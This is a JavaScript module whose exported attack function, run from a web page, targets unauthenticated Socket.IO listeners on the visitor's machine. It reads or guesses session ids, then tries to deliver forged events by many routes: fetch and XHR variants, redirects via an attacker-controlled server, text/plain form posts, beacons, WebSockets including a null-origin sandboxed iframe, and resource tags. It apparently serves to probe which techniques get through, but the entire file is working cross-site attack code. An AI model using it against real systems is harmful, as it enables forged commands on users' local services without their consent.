// What a page can try against a listener of its own machine that takes events
// without a key. It must not depend on what answers: it uses a session id
// where it gets hold of one, and guesses where it does not.

// Runs in the page. `targets` are the listener's URLs, `away` the URL of the
// attacker's own server, which redirects. Every event names the way it was
// posted. Returns the ways that were tried and the session ids it could read.
export async function attack({ targets, away }) {
  const tried = [];
  const read = [];
  const event = (by) => JSON.stringify(['letter', { to: 'victim', by, x: '=' }]);
  const event09 = (by) =>
    `5:::${JSON.stringify({ name: 'letter', args: [{ to: 'victim', by, x: '=' }] })}`;
  const done = (element, add) => new Promise((resolve) => {
    element.onload = resolve;
    element.onerror = resolve;
    add();
  });
  const add = (element) => done(element, () => document.body.append(element));
  const make = (name, fields) => Object.assign(document.createElement(name), fields);

  // -- session ids ------------------------------------------------------------

  globalThis.___eio = [];
  globalThis.io = { j: [] };
  const hello = {
    eio4: '/socket.io/?EIO=4&transport=polling',
    eio3: '/socket.io/?EIO=3&transport=polling&b64=1',
    v09: '/socket.io/1/',
  };
  const find = (text) => (/"sid":"([^"]+)"/.exec(text) ?? /^([\w-]+):\d*:\d*:/.exec(text))?.[1];
  const xhr = (url, { body, method = body ? 'POST' : 'GET', credentials, type }) =>
    new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.open(method, url);
      x.withCredentials = Boolean(credentials);
      if (type)
        x.setRequestHeader('Content-Type', type);
      x.onloadend = () => resolve(x.responseText);
      x.send(body);
    });
  const jsonp = async (list, url) => {
    let got = '';
    list[0] = (x) => { got = String(x); };
    await add(make('script', { src: url }));
    return got;
  };
  const framed = async (url) => {
    const frame = make('iframe', { src: url });
    await add(frame);
    let text = '';
    try {
      text = frame.contentDocument.body.textContent;
    } catch {
      // The frame is of another origin.
    }
    frame.remove();
    return text;
  };
  const readers = {
    fetch: (url) => fetch(url).then((x) => x.text()),
    'fetch with credentials': (url) => fetch(url, { credentials: 'include' }).then((x) => x.text()),
    xhr: (url) => xhr(url, {}),
    'xhr with credentials': (url) => xhr(url, { credentials: true }),
    iframe: framed,
    'script, Engine.IO': (url) => jsonp(globalThis.___eio, `${url}&j=0`),
    'script, 0.9': (url) => jsonp(globalThis.io.j, `${url}?jsonp=0`),
  };
  const readable = new Map();

  // Tries every reader once per target and generation, and keeps one that works.
  async function session(target, dialect) {
    const place = `${target} ${dialect}`;
    if (!readable.has(place)) {
      readable.set(place, (async () => {
        for (const [name, reader] of Object.entries(readers)) {
          const sid = find(await reader(target + hello[dialect]).catch(() => ''));
          tried.push(`${name} ${dialect}`);
          if (sid)
            return reader;
        }
        return undefined;
      })());
    }
    const reader = await readable.get(place);
    const sid = reader && find(await reader(target + hello[dialect]).catch(() => ''));
    if (sid)
      read.push(place);
    return sid ?? 'AAAAAAAAAAAAAAAAAAAA';
  }

  // -- posts ------------------------------------------------------------------

  // `more` is what the way of posting appends by itself.
  const dialects = {
    eio4: (by) => [(sid) => `${hello.eio4}&sid=${sid}`, `40\x1e42${event(by)}`],
    eio3: (by, more) => [(sid) => `${hello.eio3}&sid=${sid}`,
      `${event(by).length + 2 + more}:42${event(by)}`],
    v09: (by) => [(sid) => `/socket.io/1/xhr-polling/${sid}`, event09(by)],
  };
  let frames = 0;
  const submit = async (url, fields) => {
    const name = `into${++frames}`;
    const frame = make('iframe', { name });
    document.body.append(frame);
    const form = make('form', { method: 'post', action: url, target: name, ...fields });
    document.body.append(form);
    form.append(fields.field);
    await done(frame, () => form.submit());
    form.remove();
    frame.remove();
  };
  // The body is name=value, so it is cut at its own sign.
  const form = (url, body) => {
    const at = body.lastIndexOf('=');
    const field = make('input', { name: body.slice(0, at), value: body.slice(at + 1) });
    return submit(url, { enctype: 'text/plain', field });
  };
  const redirected = (url) => `${away}?to=${encodeURIComponent(url)}`;
  const post = (fields) => (url, body) => fetch(url, { method: 'POST', body, ...fields });
  const posters = {
    fetch: post({}),
    'fetch with credentials': post({ credentials: 'include' }),
    'fetch no-cors': post({ mode: 'no-cors' }),
    'fetch no-cors with credentials': post({ mode: 'no-cors', credentials: 'include' }),
    'fetch keepalive': post({ mode: 'no-cors', keepalive: true }),
    'fetch redirected': (url, body) => post({ mode: 'no-cors' })(redirected(url), body),
    xhr: (url, body) => xhr(url, { body }),
    'xhr with credentials': (url, body) => xhr(url, { body, credentials: true }),
    'xhr with a type': (url, body) => xhr(url, { body, type: 'application/json' }),
    form,
    'form redirected': (url, body) => form(redirected(url), body),
    beacon: async (url, body) => navigator.sendBeacon(url, body),
    'beacon with a type': async (url, body) =>
      navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' })),
  };
  async function posts(target, dialect, name) {
    const by = `${name} ${dialect}`;
    const [path, body] = dialects[dialect](by, name.startsWith('form') ? 2 : 0);
    const url = target + path(await session(target, dialect));
    await posters[name](`${url}${url.includes('?') ? '&' : '?'}by=${by}`, body).catch(() => {});
    tried.push(by);
  }
  async function scripted(target) {
    const eio3 = `${hello.eio3}&j=0&sid=${await session(target, 'eio3')}`;
    const packet = `42${event('jsonp form eio3')}`;
    const v09 = `/socket.io/1/jsonp-polling/${await session(target, 'v09')}?i=0`;
    for (const [by, path, value] of [
      ['jsonp form eio3', eio3, `${packet.length}:${packet}`],
      ['jsonp form v09', v09, JSON.stringify(event09('jsonp form v09'))],
    ]) {
      await submit(`${target}${path}&by=${by}`, { field: make('input', { name: 'd', value }) });
      tried.push(by);
    }
  }

  // -- WebSockets -------------------------------------------------------------

  const paths = {
    eio4: () => '/socket.io/?EIO=4&transport=websocket',
    eio3: () => '/socket.io/?EIO=3&transport=websocket',
    v09: (sid) => `/socket.io/1/websocket/${sid}`,
  };
  const frames4 = (by) => ['40', `42${event(by)}`, '421["bye",{"to":"victim"}]'];
  const written = {
    eio4: frames4,
    eio3: frames4,
    v09: (by) => [event09(by), '5:1+::{"name":"bye","args":[]}'],
  };
  async function socket(target, dialect) {
    const by = `websocket ${dialect}`;
    const path = paths[dialect](dialect === 'v09' ? await session(target, dialect) : '');
    const url = `${target.replace('http', 'ws')}${path}${path.includes('?') ? '&' : '?'}by=${by}`;
    await new Promise((resolve) => {
      const made = new WebSocket(url);
      made.onopen = () => written[dialect](by).forEach((x) => made.send(x));
      // The last frame asks for an ack.
      made.onmessage = ({ data }) => /^(431|6:::1)/.test(data) && made.close();
      made.onclose = resolve;
    });
    tried.push(by);
  }
  // The same from an origin that nobody can name.
  async function sandboxed(target) {
    const by = 'sandboxed websocket eio3';
    const url = `${target.replace('http', 'ws')}${paths.eio3()}&by=${by}`;
    const end = new Promise((resolve) => {
      addEventListener('message', ({ data }) => data === url && resolve());
    });
    const frame = make('iframe', { sandbox: 'allow-scripts' });
    frame.srcdoc = `<script>
      const made = new WebSocket(${JSON.stringify(url)});
      made.onopen = () => ${JSON.stringify(written.eio3(by))}.forEach((x) => made.send(x));
      made.onmessage = ({ data }) => /^431/.test(data) && made.close();
      made.onclose = () => parent.postMessage(${JSON.stringify(url)}, '*');
    <\/script>`;
    document.body.append(frame);
    await end;
    frame.remove();
    tried.push(by);
  }

  // -- tags -------------------------------------------------------------------

  async function tags(target) {
    const url = (by) => `${target}${hello.eio3}&by=${by}`;
    await Promise.all([
      add(make('img', { src: url('img') })),
      add(make('script', { src: url('script') })),
      add(make('script', { src: url('module'), type: 'module' })),
      add(make('link', { href: url('style'), rel: 'stylesheet' })),
      add(make('link', { href: url('prefetch'), rel: 'prefetch' })),
      add(make('iframe', { src: `${target}/socket.io/1/htmlfile/AAAA?by=htmlfile` })),
      new Promise((resolve) => {
        const events = new EventSource(url('event source'));
        events.onerror = () => resolve(events.close());
      }),
      fetch(url('fetch no-cors'), { mode: 'no-cors' }).catch(() => {}),
      fetch(url('preflight'), { method: 'PUT', headers: { 'X-A': 'b' } }).catch(() => {}),
    ]);
    tried.push('tags');
  }

  await Promise.all(targets.flatMap((target) => [
    ...Object.keys(dialects).flatMap((dialect) => [
      ...Object.keys(posters).map((name) => posts(target, dialect, name)),
      socket(target, dialect),
    ]),
    scripted(target),
    sandboxed(target),
    tags(target),
  ]));
  return { tried: [...new Set(tried)].sort(), read: [...new Set(read)].sort() };
}
